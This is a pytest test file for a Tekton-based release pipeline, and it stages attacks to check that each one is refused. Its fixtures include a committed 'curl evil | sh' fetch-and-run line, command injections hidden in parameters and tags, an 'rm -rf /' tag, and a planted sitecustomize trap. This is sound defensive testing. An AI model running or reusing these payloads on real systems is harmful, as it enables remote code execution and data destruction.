"""The release chain against a hostile tag: each test performs an attack on pipelines/ as written (its Tasks
run by the local runner, real git, real files) and sees it refused. Threat rows R1-R12 of
docs/threat-model.md name these tests."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from pitlane.errors import Refused, UserError
from pitlane.release import serial, tekton, tools_pin
from pitlane.release.config import check_digest_ref
from pitlane.release.local import FAILED, SUCCEEDED, LocalRun, Secrets

ROOT = Path(__file__).resolve().parents[2]
PIPELINES = ROOT / "pipelines"
OBJECTS = tekton.load(PIPELINES)
PITLANE = [sys.executable, "-m", "pitlane.cli"]
SIGNING = {"pitlane-sign-model": "model-signing-key", "pitlane-sign-images": "image-signing-key"}
GATE = ("pitlane-gate-parts", "pitlane-gate-part", "pitlane-gate-model")  # the gate's fan-out and verdict
TRUSTED = (*GATE, "pitlane-gitops-bump")  # pitlane from the tools image only, though they open no key
MODEL = "127.0.0.1:5000/pitlane/models@sha256:" + "a" * 64
TOOLS = "registry.invalid/pitlane/tools@sha256:" + "0" * 64


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True).stdout


def steps(task: dict[str, Any]) -> list[dict[str, Any]]:
    return list(task["spec"]["steps"])


def run_task(tmp_path: Path, task: str, params: dict[str, str], workspaces: dict[str, Any], secrets=None):
    """One real Task of pipelines/ in a one-task Pipeline, on the local runner; (outcome, log)."""
    declared = OBJECTS.get("Task", task)["spec"]
    pipeline = {
        "apiVersion": "tekton.dev/v1",
        "kind": "Pipeline",
        "metadata": {"name": "one"},
        "spec": {
            "params": [{"name": n, "type": "string"} for n in params],
            "workspaces": [{"name": w["name"], "optional": True} for w in declared.get("workspaces", [])],
            "tasks": [
                {
                    "name": "t",
                    "taskRef": {"name": task},
                    "params": [{"name": n, "value": f"$(params.{n})"} for n in params],
                    "workspaces": [{"name": w, "workspace": w} for w in workspaces],
                }
            ],
        },
    }
    objects = tekton.Objects((*OBJECTS.docs, pipeline))
    lines: list[str] = []
    runner = LocalRun(objects, "one", params, workspaces, tmp_path / "run", secrets or Secrets(None),
                      echo=lines.append)  # fmt: skip
    return runner.run(), "\n".join(lines)


# --- R1 / R3: only a signing Task opens a key, and it runs no code of the tag ---------------------------
def test_only_the_signing_tasks_open_a_key_and_they_run_no_tag_code():
    for task in OBJECTS.of_kind("Task"):
        name, spec = task["metadata"]["name"], task["spec"]
        keys = {w["name"] for w in spec.get("workspaces", []) if "signing-key" in w["name"]}
        assert keys == ({SIGNING[name]} if name in SIGNING else set()), name
        for step in steps(task):
            refs = [e["valueFrom"]["secretKeyRef"]["name"] for e in step.get("env", []) if "valueFrom" in e]
            assert not any("signing" in r for r in refs), (name, refs)  # keys come as workspaces only
            privileged = (step.get("securityContext") or {}).get("privileged")
            runs_tag_code = (
                privileged or "python -m" in step["script"] or "PYTHONPATH" in str(step.get("env"))
            )
            if name in SIGNING or name in TRUSTED:
                assert not runs_tag_code, name  # pitlane from the tools image's PATH, never the checkout
                assert "/repo" not in step["script"] and "/repo" not in step.get("workingDir", ""), name
                assert {"name": "PYTHONSAFEPATH", "value": "1"} in step["env"], name
            if runs_tag_code:
                assert not refs and not keys, name  # tag code sees no Secret at all
    pipeline = OBJECTS.get("Pipeline", "pitlane-release")
    for pt in pipeline["spec"]["tasks"]:
        bound = {w["workspace"] for w in pt.get("workspaces", []) if "signing-key" in w["workspace"]}
        assert bound == ({SIGNING[pt["taskRef"]["name"]]} if pt["taskRef"]["name"] in SIGNING else set())


def test_each_key_is_its_own_secret_mounted_with_just_key_and_password():
    template = OBJECTS.get("TriggerTemplate", tekton.TEMPLATE)
    (run,) = template["spec"]["resourcetemplates"]
    bindings = {w["name"]: w for w in run["spec"]["workspaces"]}
    for workspace, secret in (
        ("model-signing-key", "pitlane-model-signing-key"),
        ("image-signing-key", "pitlane-image-signing-key"),
    ):
        s = bindings[workspace]["secret"]
        assert s["secretName"] == secret
        assert s["items"] == [
            {"key": "cosign.key", "path": "cosign.key"},
            {"key": "password", "path": "password"},
        ]
    assert "signing-key" not in bindings  # the old shared key is gone


def test_a_hostile_workspace_runs_nothing_in_the_signing_task_and_sees_only_its_key(tmp_path):
    """A tag's code (tests, build) left a `pitlane` package and a sitecustomize in the shared workspace and
    rewrote the gate report: the signing Task imports none of it, refuses the report, and its key
    workspace holds only cosign.key and password although the Secret has more."""
    source = tmp_path / "source"
    trap = f"import pathlib; pathlib.Path({str(tmp_path / 'PWNED')!r}).write_text('ran')\n"
    for where in (source, source / "repo", source / "gate"):
        (where / "pitlane").mkdir(parents=True)
        (where / "pitlane" / "__init__.py").write_text(trap)
        (where / "sitecustomize.py").write_text(trap)
    (source / "gate" / "gate.json").write_text(json.dumps({"verdict": "pass"}))
    secrets = tmp_path / "secrets" / "pitlane-model-signing-key"
    secrets.mkdir(parents=True)
    for name in ("cosign.key", "password", "cosign.pub", "other-token"):
        (secrets / name).write_text(f"{name}-value-0123456789\n")
    (tmp_path / "secrets" / "pitlane-github").mkdir()
    (tmp_path / "secrets" / "pitlane-github" / "token").write_text("ghp_notReallyAToken0123")
    items = [{"key": "cosign.key", "path": "cosign.key"}, {"key": "password", "path": "password"}]
    params = {"model": MODEL, "policy": "{}", "report-digest": "sha256:" + "0" * 64, "version": "v1.0.0",
              "commit": "c" * 40, "repo-url": str(tmp_path / "origin.git"), "tools-image": TOOLS}  # fmt: skip
    workspaces = {
        "source": {"name": "source", "folder": str(source)},
        "model-signing-key": {"secret": {"secretName": "pitlane-model-signing-key", "items": items}},
    }
    outcome, log = run_task(tmp_path, "pitlane-sign-model", params, workspaces, Secrets(tmp_path / "secrets"))
    assert outcome.status == FAILED
    assert "something rewrote it in the workspace; nothing is signed" in log
    assert not (tmp_path / "PWNED").exists()
    mounted = tmp_path / "run" / "workspaces" / "model-signing-key"
    assert sorted(p.name for p in mounted.iterdir()) == ["cosign.key", "password"]


# --- R2: the tools image is pinned by digest --------------------------------------------------------------
def test_every_step_runs_in_the_tools_image_pinned_by_digest(tmp_path):
    pipeline = OBJECTS.get("Pipeline", "pitlane-release")
    default = {p["name"]: p for p in pipeline["spec"]["params"]}["tools-image"]["default"]
    assert check_digest_ref(default, "tools image") == tools_pin.pinned(ROOT) == default
    for task in OBJECTS.of_kind("Task"):
        params = {p["name"]: p for p in task["spec"]["params"]}
        assert "default" not in params["tools-image"]  # no Task falls back to a tag
        assert all(step["image"] == "$(params.tools-image)" for step in steps(task))
    (tmp_path / "pipelines").mkdir()
    (tmp_path / "pipelines" / "pipeline.yaml").write_text((PIPELINES / "pipeline.yaml").read_text())
    new = "127.0.0.1:5000/pitlane/tools@sha256:" + "b" * 64
    assert tools_pin.pin(tmp_path, new) and tools_pin.pinned(tmp_path) == new
    assert not tools_pin.pin(tmp_path, new)  # the same pin again changes nothing
    with pytest.raises(UserError, match="must be pinned by digest"):
        tools_pin.pin(tmp_path, "ghcr.io/pitlane/pitlane-tools:0.1.0")


# --- R8: params never pasted into a script; the trigger's filter ------------------------------------------
def test_no_tekton_variable_is_pasted_into_a_script():
    """Every value reaches a script through env (quoted "$VAR"): params, results and workspace paths alike;
    an array (the gate's summaries), which Tekton passes only as args, as the script's arguments ("$@")."""
    arrays = 0
    for task in OBJECTS.of_kind("Task"):
        declared = {p["name"]: p.get("type", "string") for p in task["spec"]["params"]}
        for step in steps(task):
            assert "command" not in step and "script" in step, task["metadata"]["name"]
            for arg in step.get("args", []):  # each a whole array param alone: argv items, never shell text
                ref = tekton.whole_array(arg)
                assert ref is not None and ref[0] == "params", (task["metadata"]["name"], arg)
                assert declared[tekton.split_index(ref[1])[0]] == "array", (task["metadata"]["name"], arg)
                assert '"$@"' in step["script"]
                arrays += 1
            pasted = [".".join(v) for v in tekton.variables(step["script"])]
            assert pasted == [], (task["metadata"]["name"], step["name"], pasted)
    assert arrays == 1  # gate-model's summaries


def test_a_command_in_a_param_runs_nothing(tmp_path):
    """`$(...)` and `;` in the tag, the URL and the pytest arguments stay data: fetch-source refuses the tag,
    pytest refuses the argument, and no command in them ran."""
    marker = tmp_path / "PWNED"
    source = tmp_path / "source"
    (source / "repo").mkdir(parents=True)
    params = {"url": f"$(touch {marker}); touch {marker}", "revision": f"v1.0.0$(touch {marker})",
              "base-branch": "main", "tools-image": TOOLS}  # fmt: skip
    ws = {"source": {"name": "source", "folder": str(source)}}
    outcome, log = run_task(tmp_path / "a", "pitlane-fetch-source", params, ws)
    assert outcome.status == FAILED and "is not vMAJOR.MINOR.PATCH: nothing fetched" in log
    outcome, log = run_task(
        tmp_path / "b", "pitlane-tests", {"pytest-args": f"$(touch {marker})", "tools-image": TOOLS}, ws
    )
    assert outcome.status == FAILED
    assert not marker.exists()


def _re2(pattern: str) -> re.Pattern[str]:
    """RE2 as CEL's matches() runs it: `$` is the end of the text (Python's `\\Z`), never before a newline."""
    return re.compile(pattern.replace("$", r"\Z"))


def test_the_trigger_takes_only_a_semver_tag_of_this_repository():
    listener = OBJECTS.get("EventListener", "pitlane-release")
    cel = next(i for i in listener["spec"]["triggers"][0]["interceptors"] if i["ref"]["name"] == "cel")
    text = {p["name"]: p["value"] for p in cel["params"]}["filter"]
    (pattern,) = re.findall(r"body\.ref\.matches\('([^']*)'\)", text)
    assert pattern == "^refs/tags/v[0-9]+[.][0-9]+[.][0-9]+$"
    assert "body.repository.full_name == 'pitlane-dev/pitlane'" in text and "body.deleted == false" in text
    for ref, taken in [("refs/tags/v1.0.0", True), ("refs/tags/v1.0.0\n", False), ("refs/tags/v1.0", False),
                       ("refs/heads/v1.0.0", False), ("refs/tags/v1.0.0-rc1", False),
                       ("refs/tags/v1.0.0;rm -rf /", False)]:  # fmt: skip
        assert bool(_re2(pattern).search(ref)) is taken, ref


# --- R9: the EventListener reads no Secret ----------------------------------------------------------------
def test_the_event_listener_reads_no_secret():
    listener = OBJECTS.get("EventListener", "pitlane-release")
    account = listener["spec"]["serviceAccountName"]
    roles = {b["roleRef"]["name"] for b in OBJECTS.of_kind("RoleBinding") + OBJECTS.of_kind("ClusterRoleBinding")
             if any(s["name"] == account for s in b["subjects"])}  # fmt: skip
    rules = [r for kind in ("Role", "ClusterRole") for d in OBJECTS.of_kind(kind)
             if d["metadata"]["name"] in roles for r in d["rules"]]  # fmt: skip
    assert rules
    for rule in rules:
        assert "secrets" not in rule["resources"] and "*" not in rule["resources"], rule


# --- R6 / R7 / R12: fetch-source refuses a tag off main, a loosened gate, a trailing newline -------------
@pytest.fixture
def origin(tmp_path):
    """A bare remote with main (release.yaml for v1.0.0) and a side branch nobody merged."""
    origin, work = tmp_path / "origin.git", tmp_path / "work"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(origin))
    git(tmp_path, "init", "-q", "-b", "main", str(work))
    git(work, "config", "user.name", "RM")
    git(work, "config", "user.email", "rm@example.com")
    (work / "release.yaml").write_text(yaml.safe_dump({"version": "v1.0.0", "model": MODEL}))
    git(work, "add", "-A")
    git(work, "commit", "-qm", "release v1.0.0")
    git(work, "remote", "add", "origin", str(origin))
    git(work, "push", "-q", "origin", "main")
    return origin, work


def fetch(tmp_path, origin, tag: str):
    source = tmp_path / f"source-{len(list(tmp_path.iterdir()))}"
    params = {"url": str(origin), "revision": tag, "base-branch": "main", "tools-image": TOOLS}
    return run_task(source.with_name(source.name + "-run"), "pitlane-fetch-source", params,
                    {"source": {"name": "source", "folder": str(source)}})  # fmt: skip


def test_a_tag_on_main_is_planned_with_the_effective_policy(tmp_path, origin):
    origin_path, work = origin
    git(work, "tag", "v1.0.0")
    git(work, "push", "-q", "origin", "v1.0.0")
    outcome, log = fetch(tmp_path, origin_path, "v1.0.0")
    assert outcome.status == SUCCEEDED, log
    policy = json.loads(outcome.task("t").results["gate-policy"])
    assert policy["scenes"] == ["generated_track", "mini_monaco"] and policy["max_nonfinite_outputs"] == 0
    assert outcome.task("t").results["commit"] == git(work, "rev-parse", "HEAD").strip()


def test_a_tag_not_on_main_is_refused(tmp_path, origin):
    origin_path, work = origin
    git(work, "checkout", "-q", "-b", "unreviewed")
    (work / "pitlane.py").write_text("import os; os.system('curl evil | sh')\n")
    git(work, "add", "-A")
    git(work, "commit", "-qm", "not reviewed")
    git(work, "tag", "v1.0.0")
    git(work, "push", "-q", "origin", "v1.0.0", "unreviewed")  # the branch is pushed too, never merged
    outcome, log = fetch(tmp_path, origin_path, "v1.0.0")
    assert outcome.status == FAILED
    assert "which is not on origin/main: a release is cut from origin/main only" in log


def test_a_release_yaml_loosening_the_gate_is_refused_before_anything_runs(tmp_path, origin):
    origin_path, work = origin
    loose = {"scenes": ["generated_track"], "laps": 1, "min_laps_completed": 0, "max_abs_cte": None,
             "max_off_track_events": None, "min_mean_speed": None, "max_nonfinite_outputs": 7}  # fmt: skip
    (work / "release.yaml").write_text(
        yaml.safe_dump({"version": "v1.0.0", "model": MODEL, "gate": {"policy": loose}})
    )
    git(work, "commit", "-qam", "a laxer gate")
    git(work, "push", "-q", "origin", "main")
    git(work, "tag", "v1.0.0")
    git(work, "push", "-q", "origin", "v1.0.0")
    outcome, log = fetch(tmp_path, origin_path, "v1.0.0")
    assert outcome.status == FAILED
    assert (
        "release.yaml's gate policy loosens the pipeline's minimum: min_laps_completed 0 (minimum 1)" in log
    )
    assert "max_nonfinite_outputs 7 (minimum 0)" in log


def test_prepare_refuses_a_looser_gate_before_committing(tmp_path, origin):
    _, work = origin
    (work / "lax.yaml").write_text("max_abs_cte: null\nmin_mean_speed: 0.0\n")
    git(work, "add", "lax.yaml")
    git(work, "commit", "-qm", "a lax policy file")
    head = git(work, "rev-parse", "HEAD")
    proc = subprocess.run([*PITLANE, "release", "prepare", "v1.0.1", "--model", MODEL, "--policy", "lax.yaml"],
                          cwd=work, capture_output=True, text=True)  # fmt: skip
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1
    assert (
        "loosens the pipeline's minimum: min_mean_speed 0.0 (minimum 0.3); max_abs_cte null (minimum 0.45)"
        in proc.stderr
    )
    assert git(work, "rev-parse", "HEAD") == head and git(work, "tag", "--list") == ""


def test_a_trailing_newline_tag_is_refused_before_any_commit(tmp_path, origin):
    _, work = origin
    head = git(work, "rev-parse", "HEAD")
    proc = subprocess.run([*PITLANE, "release", "prepare", "v1.0.1\n", "--model", MODEL], cwd=work,
                          capture_output=True, text=True)  # fmt: skip
    assert proc.returncode == 2 and "is not semantic versioning" in proc.stderr
    assert git(work, "rev-parse", "HEAD") == head and git(work, "tag", "--list") == ""
    assert not git(work, "status", "--porcelain")  # nothing written either
    outcome, log = fetch(tmp_path, origin[0], "v1.0.0\n")
    assert outcome.status == FAILED and "is not vMAJOR.MINOR.PATCH: nothing fetched" in log
    with pytest.raises(UserError, match="not semantic versioning"):
        from pitlane.release.config import check_tag

        check_tag("v1.0.0\n")


# --- R11: the serial is claimed on the remote, and two releases racing for it: one fails ----------------
def test_two_releases_racing_for_a_serial_one_fails(tmp_path):
    remote = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", str(remote))
    a = serial.Release("v1.0.0", MODEL, "a" * 40)
    b = serial.Release("v1.1.0", MODEL.replace("a" * 64, "b" * 64), "b" * 40)
    assert serial.assign(str(remote), a) == 1
    assert serial.assign(str(remote), a) == 1  # the same release again keeps its serial
    work = tmp_path / "b"
    git(tmp_path, "init", "-q", "--bare", str(work))
    seen = serial.claims(str(remote), work)  # release b reads the claims (highest: 1)...
    assert max(seen) == 1
    c = serial.Release("v1.2.0", MODEL.replace("a" * 64, "c" * 64), "c" * 40)
    assert serial.assign(str(remote), c) == 2  # ...release c takes 2 meanwhile...
    with pytest.raises(Refused, match="release serial 2 was claimed by another release meanwhile"):
        serial.claim(str(remote), work, max(seen) + 1, b)  # ...so b's claim of 2 fails
    assert serial.assign(str(remote), b) == 3  # run again: the next one
    assert serial.assign(str(remote), b, signed_floor=10) == 3  # its claim stands
    d = serial.Release("v1.3.0", MODEL, "d" * 40)
    assert serial.assign(str(remote), d, signed_floor=10) == 11  # the registry's record counts too


def test_signing_takes_no_serial_from_anyone():
    argv = ["release", "sign-model", MODEL, "--key", "k", "--gate-report", "g", "--gate-report-digest", "d",
            "--policy", "{}", "--remote", "r", "--version", "v1.0.0", "--commit", "c", "--serial", "999999"]  # fmt: skip
    proc = subprocess.run([*PITLANE, *argv], capture_output=True, text=True)
    assert proc.returncode == 2 and "unrecognized arguments: --serial" in proc.stderr


# --- R1 / R3: images are signed by the image key, from the build's results, once really pushed ----------
def test_sign_image_signs_only_a_pushed_digest_with_the_commit_the_pipeline_knows(
    registry, tmp_path, monkeypatch
):
    from pitlane.artifacts import attest, oci, signing
    from pitlane.images.attest import PREDICATE_TYPE, slsa_predicate

    monkeypatch.setenv(signing.PASSWORD_ENV, "image key passphrase")
    key, pub = signing.generate_keys(tmp_path / "image")
    client = oci.Client(registry.host)
    config = oci.canonical_json(
        {"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": []}}
    )
    client.push_blob("pitlane/sim", config)
    manifest = oci.canonical_json({"schemaVersion": 2, "mediaType": oci.OCI_MANIFEST,
                                   "config": oci.descriptor(oci.OCI_CONFIG, config), "layers": []})  # fmt: skip
    digest = client.push_manifest("pitlane/sim", manifest, "v1.0.0")
    repo = f"{registry.host}/pitlane/sim"
    build = slsa_predicate("sim", "evil.example/x", digest, revision="f" * 40, lock_sha256="0" * 64,
                           base="b", base_digest="sha256:" + "1" * 64)  # fmt: skip
    (tmp_path / "prov.json").write_text(json.dumps(build))
    argv = [*PITLANE, "release", "sign-image", "sim", "--url", f"{repo}:v1.0.0", "--key", str(key),
            "--commit", "c" * 40, "--ref-file", str(tmp_path / "ref"), "--provenance", str(tmp_path / "prov.json")]  # fmt: skip
    never = subprocess.run([*argv, "--digest", "sha256:" + "e" * 64], capture_output=True, text=True)
    assert never.returncode == 2 and "was never pushed" in never.stderr and not (tmp_path / "ref").exists()
    proc = subprocess.run([*argv, "--digest", digest], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    ref = oci.Reference.parse((tmp_path / "ref").read_text())
    assert str(ref) == f"{repo}@{digest}"
    signing.verify(client, ref, signing.load_public_key(pub))
    provenance = attest.verify_attestation(client, ref, signing.load_public_key(pub), PREDICATE_TYPE)
    deps = provenance["buildDefinition"]["resolvedDependencies"]
    assert deps[0]["digest"] == {"gitCommit": "c" * 40} and "f" * 40 not in json.dumps(provenance)
    assert provenance["buildDefinition"]["externalParameters"]["image"] == repo
    assert provenance["runDetails"]["metadata"]["invocationId"] == str(ref)
    again = subprocess.run([*argv, "--digest", digest], capture_output=True, text=True)
    assert "already signed by this key" in again.stdout and "already attested" in again.stdout
    none = subprocess.run(
        [*PITLANE, "release", "sign-image", "car", "--key", str(key)], capture_output=True, text=True
    )
    assert none.returncode == 0 and "no car image was built by this release" in none.stdout
